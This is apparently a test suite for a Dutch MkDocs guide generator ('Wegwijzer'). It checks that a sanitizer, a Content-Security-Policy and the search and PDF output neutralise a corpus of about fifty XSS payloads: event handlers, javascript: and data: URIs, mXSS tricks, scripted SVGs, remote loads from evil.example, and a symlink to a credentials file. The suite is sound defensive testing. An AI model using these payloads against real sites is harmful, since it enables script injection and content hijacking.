"""A corpus of hostile inputs: nothing an editor writes runs script, loads from elsewhere or reads outside the project.

Each attack is tried where editors write: a catalogus text, a hand-written page
in content/, its front matter, a source's fields, the guide's introduction, and
a step text that goes into the PDFs. What comes out is parsed with a real HTML
parser, not searched for strings: pages, the search index and the PDFs.
"""

from __future__ import annotations

import gzip
import os
import html
import re
import subprocess
import sys
import time
from html.parser import HTMLParser
from urllib.parse import urlparse

import markdown
import pytest
import yaml

from conftest import POLICY_VIOLATIONS, ROOT, copy_project, mkdocs_build, search_results_shown, serve_folder, watched_tab
from wegwijzer.catalogus.safety import unsafe_targets
from wegwijzer.plugins.csp import policy, script_hash
from wegwijzer.sanitize import clean_html

#: Markdown and HTML as it gets pasted; every payload would set window.__xss or fetch from evil.example.
ATTACKS = {
    # attr_list: any attribute on any element
    "attr-img-onload": '![plaatje](../assets/x.png){: onload="window.__xss=1" }',
    "attr-img-onerror": "![plaatje](../assets/x.png){: onerror=window.__xss=1 }",
    "attr-link-onclick": '[link](https://example.org/){: onclick="window.__xss=1" }',
    "attr-link-href": '[link](https://example.org/){: href="javascript:window.__xss=1" }',
    "attr-paragraph": 'Een alinea.\n{: onmouseover="window.__xss=1" }',
    "attr-heading": '## Kop {: onfocus="window.__xss=1" autofocus tabindex=0 }',
    "attr-style": '[link](https://example.org/){: style="position:fixed;inset:0;z-index:9" }',
    "attr-clobber-config": "[link](https://example.org/){: #__config }",
    "attr-clobber-name": "![x](../assets/x.png){: name=getElementById }",
    "attr-material": '[link](https://example.org/){: data-md-component="outdated" }',
    "attr-img-remote": "![x](../assets/x.png){: src=https://evil.example/pixel.png }",
    # link tricks the pattern check missed
    "link-nested-brackets": "[een [geneste] link](javascript:window.__xss=1)",
    "link-line-break": "[twee\nregels](javascript:window.__xss=1)",
    "link-reference-in-list": "- een punt met [x]\n\n    [x]: javascript:window.__xss=1",
    "link-reference-angle": "Zie [x][ref].\n\n[ref]: <javascript:window.__xss=1>",
    "link-autolink": "<javascript:window.__xss=1>",
    "link-entity": "[x](&#106;avascript:window.__xss=1)",
    "link-data-html": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "img-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "img-remote": "![x](https://evil.example/pixel.png)",
    # raw HTML
    "html-script": "<script>window.__xss=1</script>",
    "html-img-onerror": '<img src=x onerror="window.__xss=1">',
    "html-svg-onload": '<svg onload="window.__xss=1"></svg>',
    "html-iframe": '<iframe src="https://evil.example/"></iframe>',
    "html-a-javascript": '<a href="javascript:window.__xss=1">a</a>',
    "html-a-spaces": '<a href="  javascript:window.__xss=1">a</a>',
    "html-a-tab-entity": '<a href="jav&#x09;ascript:window.__xss=1">a</a>',
    "html-a-vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "html-form": '<form action="https://evil.example/"><button formaction="javascript:window.__xss=1">b</button></form>',
    "html-mxss-math": '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    "html-mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "html-md-in-html": '<div markdown="1" onclick="window.__xss=1">**vet**</div>',
    "html-object": '<object data="https://evil.example/x.swf"></object>',
    "html-embed": '<embed src="https://evil.example/x">',
    "html-base": '<base href="https://evil.example/">',
    "html-meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "html-link-css": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "html-style": "<style>body{background:url(https://evil.example/x)}</style>",
    "html-details": '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
    "html-input-autofocus": '<input autofocus onfocus="window.__xss=1">',
    "html-video-source": '<video><source onerror="window.__xss=1"></video>',
    "html-svg-xlink": '<svg><a xlink:href="javascript:window.__xss=1"><text>x</text></a></svg>',
    "html-svg-animate": '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"/></svg>',
    "html-template": '<template><img src=x onerror="window.__xss=1"></template>',
    "html-style-attr": '<p style="background:url(https://evil.example/x)">p</p>',
    "html-img-remote": '<img src="https://evil.example/pixel.png">',
    "html-clobber-id": '<p id="ww-opslag">{"id": "anders"}</p>',
    "html-area": '<map name="m"><area href="javascript:window.__xss=1"></map>',
    "html-target-blank": '<a href="https://evil.example/" target="_blank">tabnabbing</a>',
    # found by attacking the first version of the sanitizer
    "html-noscript-refresh": '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
    "html-noscript-img": "<noscript><img src=x onerror=window.__xss=1></noscript>",
    "attr-pagefind-meta": '[x](https://example.org/){: data-pagefind-meta="url:https://evil.example/phish" }',
    "html-pagefind-body": "<div data-pagefind-body>alleen deze pagina in de zoekindex</div>",
    "html-img-backslash": '<img src="/\\evil.example/a.png">',
    "html-img-tab": '<img src="/&#9;/evil.example/a.png">',
    "md-img-backslash": "![b](/\\evil.example/b.png)",
}

#: Attributes that hold a URL a browser follows or fetches.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "background", "xlink:href", "data", "cite", "ping"}
NEVER = {"script", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "meta", "link", "style", "template", "math"}


class _Checker(HTMLParser):
    """Everything a page's HTML could do beyond showing text, links and images of its own site."""

    def __init__(self, whole_page: bool):
        super().__init__(convert_charrefs=True)
        self.whole_page = whole_page
        self.found: list[str] = []
        self.stack: list[str] = []
        self.in_article = not whole_page

    def handle_starttag(self, tag, attrs):
        attrs = [(name, value or "") for name, value in attrs]
        if tag == "article" and any(n == "class" and "md-content__inner" in v for n, v in attrs):
            self.in_article = True
        where = "in de tekst" if self.in_article else "in het thema"
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{where}: <{tag} {name}=…>")
            if name in URL_ATTRIBUTES:
                target = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
                if target.startswith(("javascript:", "vbscript:", "data:")):
                    self.found.append(f"{where}: <{tag} {name}={value[:40]}>")
                if (target.startswith(("http:", "https:", "//")) and tag != "a") or "evil.example" in target and tag != "a":
                    self.found.append(f"{where}: <{tag} {name}={value[:40]}> vraagt iets bij een andere website op")
            if name == "style" and self.in_article and not re.fullmatch(r"--[a-z-]+:\s*#[0-9a-fA-F]{3,8};?", value.strip()):
                self.found.append(f"{where}: <{tag} style={value[:40]}>")
            if name == "id" and self.in_article and (value.startswith("__config") or value == "ww-opslag"):
                self.found.append(f"{where}: <{tag} id={value}> verbergt een element van het thema")
            if name in ("data-md-component", "data-pagefind-meta", "data-pagefind-body") and self.in_article:
                self.found.append(f"{where}: <{tag} {name}>")
            if tag == "img" and name == "src" and re.sub(r"[\x00-\x20]", "", html.unescape(value)).replace("\\", "/").startswith("//"):
                self.found.append(f"{where}: <img src={value[:40]}> vraagt iets bij een andere website op")
            if name == "name" and tag in {"img", "form", "embed", "object", "iframe"}:
                self.found.append(f"{where}: <{tag} name={value}>")
        if tag == "noscript" and self.in_article:
            self.found.append(f"{where}: <noscript>")
        if tag in NEVER and (self.in_article or tag not in {"script", "meta", "link", "style"}):
            self.found.append(f"{where}: <{tag}>")
        if tag == "script" and not any(n == "src" for n, _ in attrs) and self.whole_page:
            self.stack.append("script")

    def handle_data(self, data):
        if self.stack and "__xss" in data:
            self.found.append("een script met de aanval staat in de pagina")

    def handle_endtag(self, tag):
        if tag == "script" and self.stack:
            self.stack.pop()
        if tag == "article":
            self.in_article = False


def harmful(markup: str, whole_page: bool = True) -> list[str]:
    checker = _Checker(whole_page)
    checker.feed(markup)
    checker.close()
    return checker.found


def _mkdocs_markdown() -> markdown.Markdown:
    """Markdown with exactly the extensions every Wegwijzer's mkdocs.yml switches on."""
    config = yaml.safe_load((ROOT / "plugins" / "wegwijzer" / "start" / "mkdocs.yml").read_text(encoding="utf-8"))
    names, settings = [], {}
    for item in config["markdown_extensions"]:
        name, options = next(iter(item.items())) if isinstance(item, dict) else (item, {})
        names.append(name)
        settings[name] = options or {}
    return markdown.Markdown(extensions=names, extension_configs=settings)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attack_through_markdown_is_harmless_after_cleaning(name):
    md = _mkdocs_markdown()
    rendered = md.convert(ATTACKS[name])
    assert harmful(clean_html(rendered), whole_page=False) == []


def test_the_corpus_needs_the_sanitizer():
    """Without cleaning, most attacks get through Markdown: the test above can fail."""
    md = _mkdocs_markdown()
    passing = [name for name, text in ATTACKS.items() if harmful(md.reset().convert(text), whole_page=False)]
    assert len(ATTACKS) >= 40 and len(passing) >= 35, passing


def test_our_own_pages_pass_the_allowlist_unchanged(example_site):
    """The allowlist keeps what the templates make: cleaning a built page's text changes nothing it shows."""
    class Tokens(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.out = []

        def handle_starttag(self, tag, attrs):
            self.out.append((tag, sorted((n, v or "") for n, v in attrs)))

        def handle_data(self, data):
            if data.split():
                self.out.append(" ".join(data.split()))

    def tokens(markup):
        parser = Tokens()
        parser.feed(markup)
        return parser.out

    start = '<article class="md-content__inner md-typeset">'
    for path in sorted(example_site.rglob("*.html")):
        page = path.read_text(encoding="utf-8")
        if start not in page:
            continue
        article = page[page.index(start) + len(start):page.rindex("</article>")]
        assert tokens(clean_html(article)) == tokens(article), path


# -- the attacks in a whole guide ----------------------------------------------------


def _passes_the_check(text: str) -> bool:
    return not list(unsafe_targets(text))


#: Attacks the loader's own check does not refuse: they reach the build, and the sanitizer.
BUILT = {name: text for name, text in ATTACKS.items() if _passes_the_check(text)}


def _block(names) -> str:
    return "\n\n".join(f"Aanval {name}:\n\n{ATTACKS[name]}" for name in names)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    work = tmp_path_factory.mktemp("vijandig")
    project = copy_project(work, pdfs=True)  # its PDFs are checked too
    catalogus = project / "catalogus"
    outside = work / "buiten"
    outside.mkdir()
    (outside / "geheim.txt").write_text("GEHEIM-BUITEN-HET-PROJECT\n", encoding="utf-8")
    # a 1x1 PNG outside the project: WeasyPrint would embed it if it fetched
    (outside / "geheim.png").write_bytes(bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000"
        "1e221bc330000000049454e44ae426082"))
    text = _block(BUILT)

    # a hand-written page: raw HTML, and front matter the theme prints
    (project / "content" / "vijandig.md").write_text(
        "---\n"
        "title: '<img src=x onerror=\"window.__xss=1\">Titel'\n"
        "description: '\" onmouseover=\"window.__xss=1'\n"
        "author: '<script>window.__xss=1</script>'\n"
        "scripts: ['../../evil', 'scan\" onload=\"window.__xss=1']\n"
        "---\n\n# Vijandige pagina\n\n" + text + f"\n\n![buiten]({outside / 'geheim.png'})\n", encoding="utf-8")
    # front matter that is no text, and a first heading that is markup once unescaped
    (project / "content" / "lijsten.md").write_text(
        "---\n"
        "title: ['</title><script>window.__xss=1</script>']\n"
        "subtitle: ['<script>window.__xss=1</script>']\n"
        "status: ['\"><script>window.__xss=1</script>']\n"
        "description: ['\"><script>window.__xss=1</script>']\n"
        "author: {x: '\"><script>window.__xss=1</script>'}\n"
        "icon: bestaat/niet\n"
        "template: redirect.html\n"
        "location: https://evil.example/phish\n"
        "extra: &a [*a]\n"
        "hide: [5, {a: b}]\n"
        "---\n\n# Lijsten in de kop\n", encoding="utf-8")
    (project / "content" / "kop.md").write_text("# &lt;/title&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;\n\nTekst.\n", encoding="utf-8")
    # a knelpunt with every attack in its text, and sources whose fields were crafted
    (catalogus / "knelpunten" / "vijandig.yml").write_text(yaml.safe_dump({
        "titel": "Vijandig <svg onload=window.__xss=1>",
        "factor": "tijdsdruk",
        "omschrijving": text,
        "signalen": ["{: onclick=window.__xss=1 }", "<img src=x onerror=window.__xss=1>"],
        "oplossingen": ["rustige-werkplek"],
        "bronnen": [
            {"titel": "x](javascript:window.__xss=1) en [y", "link": "https://example.org/){:onclick=window.__xss=1}"},
            {"titel": "Bron \" onmouseover=\"window.__xss=1", "link": "https://example.org/\"onmouseover=\"window.__xss=1"},
        ],
    }, allow_unicode=True), encoding="utf-8")
    # the guide's introduction, and a quote
    info = catalogus / "catalogus.yml"
    data = yaml.safe_load(info.read_text(encoding="utf-8"))
    data["inleiding"] = text
    info.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    # a step text that also goes into the HR-route PDF, with an image from outside the project
    base_step = ROOT / "plugins" / "wegwijzer" / "basis" / "werkdruk" / "stappen" / "1-signalen.yml"
    step = yaml.safe_load(base_step.read_text(encoding="utf-8"))
    step["substappen"][0]["wat_en_waarom"] += "\n\n" + text + f"\n\n![buiten]({outside / 'geheim.png'})\n"
    (catalogus / "stappen").mkdir(exist_ok=True)
    (catalogus / "stappen" / base_step.name).write_text(yaml.safe_dump(step, allow_unicode=True), encoding="utf-8")

    # as the preview builds it: not strict, so the front matter's refused scripts are a warning
    result = mkdocs_build(project / "mkdocs.yml", project / "site")
    assert result.returncode == 0, result.stderr[-3000:]
    return project / "site", result.stderr


def test_the_built_guide_holds_no_attack(hostile_site):
    site, log = hostile_site
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 150
    found = {}
    for path in pages:
        if path.parent.name == "admin":
            continue  # the editor's own page (Decap CMS) holds no catalogus text
        problems = harmful(path.read_text(encoding="utf-8"))
        if problems:
            found[str(path.relative_to(site))] = problems
    assert found == {}
    # the attacks are there, as text: the test looked at pages that hold them
    page = (site / "knelpunten" / "vijandig" / "index.html").read_text(encoding="utf-8")
    assert "Aanval attr-img-onload" in page and "Aanval html-script" in page
    assert "&lt;img src=x onerror=window.__xss=1&gt;" in page  # a signal shows the tag as typed
    sources = (site / "verantwoording" / "index.html").read_text(encoding="utf-8")
    assert '<a href="https://example.org/){:onclick=window.__xss=1}">x](javascript:window.__xss=1) en [y</a>' in sources
    assert '<a href="https://example.org/&quot;onmouseover=&quot;window.__xss=1">Bron " onmouseover="window.__xss=1</a>' in sources
    assert "GEHEIM-BUITEN-HET-PROJECT" not in "".join(p.read_text(encoding="utf-8", errors="replace") for p in pages)


def test_front_matter_is_text_and_scripts_only_the_tools(hostile_site):
    site, log = hostile_site
    page = (site / "vijandig" / "index.html").read_text(encoding="utf-8")
    assert harmful(page) == []
    assert "<title>&lt;img src=x onerror=&#34;window.__xss=1&#34;&gt;Titel - " in page
    assert 'content="&#34; onmouseover=&#34;window.__xss=1"' in page
    assert "evil" not in "".join(re.findall(r'<script[^>]*src="[^"]*"', page))
    assert "scripts: '../../evil', 'scan\" onload=\"window.__xss=1' is geen hulpmiddel van de Wegwijzer" in log
    for key in ("title", "subtitle", "status", "description", "author"):
        assert f"content/lijsten.md: {key}: hier hoort gewone tekst, geen lijst of blok; het veld wordt niet gebruikt" in log
    assert "content/lijsten.md: icon: dit icoon bestaat niet" in log and "content/lijsten.md: template: kies main.html" in log
    assert "content/lijsten.md: hide: kies een lijst uit" in log
    assert "content/lijsten.md: extra: dit is te groot of verwijst naar zichzelf" in log
    assert "evil.example" not in (site / "lijsten" / "index.html").read_text(encoding="utf-8")  # no redirect
    kop = (site / "kop" / "index.html").read_text(encoding="utf-8")
    assert "<title>&lt;/title&gt;&lt;script&gt;window.__xss=1&lt;/script&gt; - " in kop and harmful(kop) == []
    # the title is in the menu of every other page, as text
    start = (site / "index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=&#34;window.__xss=1&#34;&gt;Titel" in start and harmful(start) == []


def test_search_shows_the_attacks_as_text_and_runs_nothing(hostile_site, browser):
    """Pagefind keeps a page's text; its results show it as text, with the page's policy in force."""
    site, _ = hostile_site
    fragments = [gzip.decompress(p.read_bytes()).decode("utf-8").removeprefix("pagefind_dcd") for p in (site / "pagefind" / "fragment").iterdir()]
    assert any("Aanval attr-img-onload" in f for f in fragments), "the hostile pages are in the index"
    with serve_folder(site) as base, watched_tab(browser) as (page, requests, dialogs):
        for url in ["/vijandig/", "/knelpunten/vijandig/", "/", "/verantwoording/", "/stappen/stap-1/"]:
            page.goto(base + url)  # waits for the load event: images have failed or loaded by then
            page.mouse.move(200, 300)
            page.keyboard.press("Tab")
            assert page.evaluate("window.__xss") is None, url
        page.locator(".ww-zoekknop").click()
        page.locator(".pagefind-ui__search-input").fill("Aanval html-img-onerror")
        search_results_shown(page)  # every result's fragment fetched and shown
        assert page.locator(".pagefind-ui__result").count() >= 2
        handlers = page.evaluate("""[...document.querySelectorAll('#ww-zoeken *')].flatMap(el =>
            [...el.attributes].filter(a => a.name.startsWith('on')).map(a => el.tagName + ' ' + a.name))""")
        assert handlers == []
        assert page.evaluate("window.__xss") is None and dialogs == []
        assert {urlparse(u).netloc for u in requests} == {urlparse(base).netloc}


def test_the_pdfs_hold_no_attack_and_nothing_from_outside(hostile_site):
    site, _ = hostile_site
    pdf = site / "pdf" / "hr-route.pdf"
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "Aanval attr-img-onload" in text  # the step text with the attacks is in this PDF
    images = subprocess.run(["pdfimages", "-list", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert len(images.strip().splitlines()) == 2, images  # only the header: no image was fetched
    raw = pdf.read_bytes()
    assert b"javascript" not in raw.lower() and b"evil.example" not in raw


# -- the Content-Security-Policy ------------------------------------------------------


def test_every_page_carries_its_policy_before_any_script(example_site):
    pages = [p for p in example_site.rglob("*.html")]
    assert len(pages) > 150
    for path in pages:
        page = path.read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
        assert policy, path
        assert policy.start() < page.find("<script"), path
        assert '<meta name="referrer" content="strict-origin-when-cross-origin">' in page, path
        directives = dict(d.strip().split(" ", 1) for d in policy.group(1).split(";"))
        if path.parent.name == "admin":  # Decap CMS: scripts from the site only, never inline
            assert directives["script-src"] == "'self' 'unsafe-eval'"
            continue
        sources = directives["script-src"].split()
        assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources and "*" not in directives["default-src"]
        assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
        # each inline script of the theme is allowed by its hash, and only those
        inline = [m.group(2) for m in re.finditer(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", page, re.DOTALL)
                  if "application/json" not in m.group(1)]
        assert sorted(s for s in sources if s.startswith("'sha256-")) == sorted({script_hash(body) for body in inline}), path


def test_the_browser_watch_catches_a_refused_script(browser):
    """The check every browser test ends with (conftest.no_policy_violations) can fail."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.set_content(
            f"<meta http-equiv=\"Content-Security-Policy\" content=\"{policy([])}\">"
            "<p>x</p><script>window.ran = 1</script><img src=x onerror=\"window.ran = 2\">"
        )
        deadline = time.monotonic() + 10
        while not POLICY_VIOLATIONS and time.monotonic() < deadline:
            page.evaluate("0")  # a round trip: Playwright hands over the page's messages meanwhile
        assert page.evaluate("window.ran") is None
        assert len(POLICY_VIOLATIONS) >= 1
    finally:
        POLICY_VIOLATIONS.clear()
        context.close()


def test_own_html_is_an_explicit_choice_for_own_pages_only():
    """`eigen_html: true` in mkdocs.yml leaves the docs folder's pages as written; off, they are cleaned like the rest."""
    from types import SimpleNamespace

    from wegwijzer.plugins.catalogus.config import CatalogusConfig
    from wegwijzer.plugins.catalogus.plugin import CatalogusPlugin

    assert CatalogusConfig.eigen_html.default is False
    raw = '<p>Eigen <span onclick="x()">HTML</span></p>'
    for eigen_html, generated_by, expected in [
        (False, None, "<p>Eigen <span>HTML</span></p>"),
        (True, None, raw),
        (True, "wegwijzer/catalogus", "<p>Eigen <span>HTML</span></p>"),  # catalogus pages never
    ]:
        plugin = CatalogusPlugin()
        plugin.load_config({"eigen_html": eigen_html})
        plugin.on_startup(command="build", dirty=False)
        page = SimpleNamespace(meta={}, title="Eigen", is_homepage=False, file=SimpleNamespace(generated_by=generated_by, src_uri="eigen.md"))
        assert plugin.on_page_content(raw, page=page, config=None, files=None) == expected


# -- files that run script, CSS that breaks out, folders outside the project -------------------


#: SVGs that run script when opened on their own, in the forms a list of bad words missed.
SCRIPTED_SVG = {
    "script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xhtml.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
    "prefix.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    "link.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="jav&#x61;script:alert(1)"><text>x</text></a></svg>',
    "use.svg": '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    "xslt.svg": '<?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "entity.svg": '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"/>',
}


def test_files_that_would_run_script_on_the_site_are_refused(tmp_path):
    from wegwijzer.catalogus.handpaginas import docs_folder_problems

    project = tmp_path / "project"
    docs = project / "content"
    (docs / "assets").mkdir(parents=True)
    (project / "mkdocs.yml").write_text("docs_dir: content\n", encoding="utf-8")
    (docs / "uitleg.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (docs / "assets" / "extra.js").write_text("alert(1)", encoding="utf-8")
    (docs / "x.xpdl").write_text('<root xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></root>', encoding="utf-8")
    for name, text in SCRIPTED_SVG.items():
        (docs / "assets" / name).write_text(text, encoding="utf-8")
    (docs / "assets" / "utf16.svg").write_bytes(SCRIPTED_SVG["script.svg"].encode("utf-16"))
    # what an editor publishes on purpose passes: a drawing from Inkscape, a photo, a PDF, CNAME
    (docs / "assets" / "logo.svg").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        'inkscape:version="1.3"><style>.a{fill:#1d5b79}</style><g inkscape:label="Laag 1"><path class="a" d="M0 0h4v4z"/></g></svg>', encoding="utf-8")
    (docs / "assets" / "foto.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (docs / "folder.pdf").write_bytes(b"%PDF-1.7")
    (docs / "CNAME").write_text("werkdruk.example.org\n", encoding="utf-8")
    os.mkfifo(docs / "pijp.md")
    found = {str(p.mark.path).removeprefix(str(docs) + "/"): p.message for p in docs_folder_problems(docs, str)}
    refused = {"uitleg.html", "assets/extra.js", "x.xpdl", "pijp.md", "assets/utf16.svg", *(f"assets/{name}" for name in SCRIPTED_SVG)}
    assert set(found) == refused
    assert found["x.xpdl"].startswith("een .xpdl-bestand wordt niet gepubliceerd: alleen plaatjes, documenten")
    assert found["assets/xhtml.svg"] == "deze SVG bevat '<script>': alleen tekenen mag, geen script, link of ingesloten pagina"
    assert found["pijp.md"].startswith("dit is geen gewoon bestand")
    # an organisation that chose its own HTML (docs/veiligheid.md) may publish HTML and scripts; never a pipe
    (project / "mkdocs.yml").write_text("docs_dir: content\nplugins:\n  - wegwijzer/catalogus:\n      eigen_html: true\n", encoding="utf-8")
    assert [str(p.mark.path).removeprefix(str(docs) + "/") for p in docs_folder_problems(docs, str)] == ["pijp.md"]


def test_a_catalogus_page_folder_publishes_no_script_either(make_catalogus):
    from wegwijzer.catalogus import load_catalogus
    from wegwijzer.catalogus.handpaginas import page_problems

    root = make_catalogus({"paginas/uitleg.md": "# Uitleg\n", "paginas/evil.html": "<script>alert(1)</script>",
                           "paginas/plaatje.svg": SCRIPTED_SVG["xhtml.svg"], "paginas/sub/x.js": "alert(1)"})
    problems = page_problems(load_catalogus(root), root.parent / "content", [], lambda path: str(path).removeprefix(str(root) + "/"))
    assert sorted(p.mark.path for p in problems) == ["paginas/evil.html", "paginas/plaatje.svg", "paginas/sub/x.js"]


def test_text_in_css_never_ends_its_string():
    from wegwijzer.css import css_string

    written = css_string("Gids\f} body{outline:9px solid red} .x::before{content:'NEP'}\r\n\"</style><script>")
    assert written == '"Gids } body{outline:9px solid red} .x::before{content:\'NEP\'}  \\22 \\3C /style\\3E \\3C script\\3E "'
    assert not re.search(r"[\n\r\f]", written) and written.count('"') == 2


def test_mkdocs_yml_may_not_publish_folders_from_outside_the_project(tmp_path):
    from wegwijzer.catalogus.handpaginas import settings_problems

    project, elders = tmp_path / "project", tmp_path / "elders"
    (project / "content").mkdir(parents=True)
    (project / "overrides").mkdir()
    elders.mkdir()
    (elders / "geheim.txt").write_text("geheim", encoding="utf-8")
    assert settings_problems(project, project / "content", project / "overrides", str) == []
    found = settings_problems(project, elders, elders, str)
    assert [p.field for p in found] == ["docs_dir", "theme.custom_dir"]
    assert all("ligt buiten het project" in p.message for p in found)
    (project / "overrides" / "geheim.txt").symlink_to(elders / "geheim.txt")
    [link] = settings_problems(project, project / "content", project / "overrides", str)
    assert link.message.startswith("deze link wijst naar ") and "buiten het project" in link.message
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[http]\n  extraheader = AUTHORIZATION: token\n", encoding="utf-8")
    (project / "overrides" / "geheim.txt").unlink()
    (project / "overrides" / "config.txt").symlink_to(project / ".git" / "config")
    [link] = settings_problems(project, project / "content", project / "overrides", str)
    assert link.message.startswith(f"deze link wijst naar {project / '.git' / 'config'}")


def test_a_folder_that_only_looks_like_a_site_is_not_replaced(tmp_path):
    from wegwijzer.output_folder import SITE, mark_site, project_sources, refusal

    project = tmp_path / "project"
    (project / "catalogus").mkdir(parents=True)
    (project / "content" / "fotos").mkdir(parents=True)
    (project / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    sources = project_sources(project)

    def site(name, files):
        folder = tmp_path / name
        for file in files:
            (folder / file).parent.mkdir(parents=True, exist_ok=True)
            (folder / file).write_text("x", encoding="utf-8")
        return folder

    made = ("404.html", "sitemap.xml", "index.html", "knelpunten/a/index.html", "checklists/stap-1/index.html",
            "assets/stylesheets/huisstijl.css", "fotos/a.png")
    # a site built before sites carried their list of files: recognised by what every build writes
    old = site("oud", made)
    assert refusal(old, SITE, project, sources, "--uit ../oud") is None
    for stranger in ("notities-2025.html", ".env", "andere-app/data.db"):
        (old / stranger).parent.mkdir(exist_ok=True)
        (old / stranger).write_text("van iemand", encoding="utf-8")
        assert f"er staat bijvoorbeeld '{stranger.split('/')[0]}' in" in refusal(old, SITE, project, sources, "--uit ../oud")
        (old / stranger).unlink()
    # a hand-made site with 404.html and sitemap.xml, but no Wegwijzer
    assert "is geen eerder gebouwde site" in refusal(site("www", ("404.html", "sitemap.xml", "blog/index.html")), SITE, project, sources, "--uit ../www")
    # a site of this version holds exactly what its build wrote
    new = site("nieuw", made)
    mark_site(new)
    assert refusal(new, SITE, project, sources, "--uit ../nieuw") is None
    (new / "knelpunten" / "a" / "eigen-notitie.txt").write_text("van iemand", encoding="utf-8")
    assert "er staat bijvoorbeeld 'knelpunten/a/eigen-notitie.txt' in" in refusal(new, SITE, project, sources, "--uit ../nieuw")


def test_check_finds_a_docs_folder_outside_the_project_as_the_build_does(tmp_path):
    project = copy_project(tmp_path)
    elders = tmp_path / "elders"
    elders.mkdir()
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("docs_dir: content", f"docs_dir: {elders}"), encoding="utf-8")
    checked = subprocess.run([sys.executable, "-m", "wegwijzer", "check", "catalogus"], cwd=project, capture_output=True, text=True)
    assert checked.returncode == 1 and "Traceback" not in checked.stderr
    assert f"docs_dir: de map {elders} ligt buiten het project" in checked.stderr
